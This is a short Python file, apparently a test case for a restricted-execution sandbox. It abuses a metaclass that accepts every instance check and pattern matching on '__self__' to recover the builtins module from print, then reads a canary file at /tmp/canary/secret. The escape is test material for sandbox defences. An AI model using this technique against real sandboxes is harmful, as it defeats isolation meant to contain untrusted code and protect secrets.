# source: own
# effect: secret

class Reader(type):
    __match_args__ = ("__self__",)

    def __instancecheck__(cls, value):
        return True


class Owner(metaclass=Reader):
    __match_args__ = ("__self__",)


match print:
    case Owner(module):
        print(module.open("/tmp/canary/secret").read())
